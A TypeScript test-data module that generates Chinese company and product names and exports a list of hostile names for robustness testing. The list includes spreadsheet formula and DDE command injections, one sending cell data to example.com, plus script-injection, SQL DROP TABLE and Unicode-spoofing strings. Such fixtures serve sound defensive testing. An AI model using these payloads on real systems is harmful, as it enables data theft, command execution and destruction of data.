import type { Random } from './random.ts';

const PLACES = ['深圳', '杭州', '成都', '西安', '苏州', '武汉', '贵阳', '厦门', '合肥', '长沙'] as const;
const WORDS = ['云帆', '智数', '星河', '明远', '启航', '鼎新', '天工', '博睿', '恒信', '海纳'] as const;
const TRADES = ['科技', '信息技术', '网络', '软件', '电子商务', '医疗', '教育', '物流'] as const;
const FORMS = ['有限公司', '股份有限公司', '集团有限公司', '（有限合伙）'] as const;

/** Names that break careless pages, spreadsheets and logs. */
export const HOSTILE_NAMES: readonly string[] = [
  '=HYPERLINK("http://example.com/?x="&A1,"点击")',
  '+SUM(1,1)',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '"; DROP TABLE coupons; --',
  '\u202E司公限有\u202C测试',
  '零宽\u200B名\uFEFF称',
  `超长名称${'有限公司'.repeat(49)}`,
  '👨‍👩‍👧‍👦 家庭科技 🚀',
  '000123',
  '1E10',
  '2026-01-02',
  '逗号,引号"换\n行\t制表',
  '𠮷野家（龘靐齉）有限公司',
];

/** An ordinary Chinese company name. */
export function companyName(random: Random): string {
  return `${random.pick(PLACES)}${random.pick(WORDS)}${random.pick(WORDS)}${random.pick(TRADES)}${random.pick(FORMS)}`;
}

const BRANDS = ['云帆', '智联', '恒通', '远景', '星海', '博达', '启明', '瑞丰', '天工', '蓝图'] as const;
const GOODS = [
  '数据库审计',
  '企业网盘',
  '堡垒机',
  '智能客服',
  '低代码平台',
  '日志分析',
  '漏洞扫描',
  '视频会议',
  '电子合同',
  '财税机器人',
] as const;
const EDITIONS = ['标准版', '专业版', '旗舰版', '按需', '包年', 'V2.0'] as const;

/** An ordinary name of a product. */
export function productName(random: Random): string {
  return `${random.pick(BRANDS)}${random.pick(GOODS)}（${random.pick(EDITIONS)}）`;
}
